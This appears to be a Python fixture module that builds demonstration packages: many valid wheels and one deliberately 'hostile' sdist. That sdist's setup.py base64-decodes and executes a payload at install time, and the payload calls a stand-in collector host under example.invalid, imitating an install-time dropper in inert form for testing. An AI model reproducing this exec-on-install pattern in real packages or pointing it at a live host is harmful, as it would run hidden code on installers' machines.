"""What the demonstration makes itself: a project of many files, and a hostile sdist that is inert.

The hostile sdist imitates the shape of install-time droppers: `setup.py` decodes a string and executes it. What it would
execute prints a line and asks a host under `example.invalid`, which exists nowhere.
"""

from __future__ import annotations

import base64
import hashlib
import io
import tarfile
import zipfile
from pathlib import Path

MANY = "bonded-demo-many"
HOSTILE = "bonded-demo-hostile"


def wheel(folder: Path, name: str, version: str, *, summary: str = "One of many files") -> Path:
    """Write a valid pure wheel and return its path."""
    module = name.replace("-", "_")
    info = f"{module}-{version}.dist-info"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {summary}\nRequires-Python: >=3.8\n\nA demonstration.\n"
    members = {
        f"{module}/__init__.py": f'"""A demonstration."""\n\n__version__ = "{version}"\n',
        f"{info}/METADATA": metadata,
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: bonded-demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{path},sha256={_digest(text.encode())},{len(text.encode())}\n" for path, text in members.items())
    members[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
    path = folder / f"{module}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, text in members.items():
            archive.writestr(zipfile.ZipInfo(member, (2026, 1, 1, 0, 0, 0)), text)
    return path


def many(folder: Path, count: int) -> list[Path]:
    """`count` releases of one project."""
    folder.mkdir(parents=True, exist_ok=True)
    return [wheel(folder, MANY, f"0.{n}.0") for n in range(count)]


def hostile(folder: Path) -> Path:
    """An sdist whose setup.py decodes and executes a string at install time. Inert: see the module."""
    folder.mkdir(parents=True, exist_ok=True)
    payload = "import urllib.request\nprint('demonstration only')\nurllib.request.urlopen('https://collector.example.invalid/')\n"
    hidden = base64.b64encode(payload.encode()).decode()
    setup = f"import base64\nfrom setuptools import setup\n\nexec(base64.b64decode({hidden!r}))\n\nsetup(name={HOSTILE!r}, version='1.0')\n"
    base = HOSTILE.replace("-", "_") + "-1.0"
    members = {
        f"{base}/PKG-INFO": f"Metadata-Version: 2.1\nName: {HOSTILE}\nVersion: 1.0\nSummary: A hostile imitation, inert\n",
        f"{base}/setup.py": setup,
        f"{base}/pyproject.toml": "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n",
    }
    path = folder / f"{base}.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for member, text in members.items():
            entry = tarfile.TarInfo(member)
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return path


def _digest(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
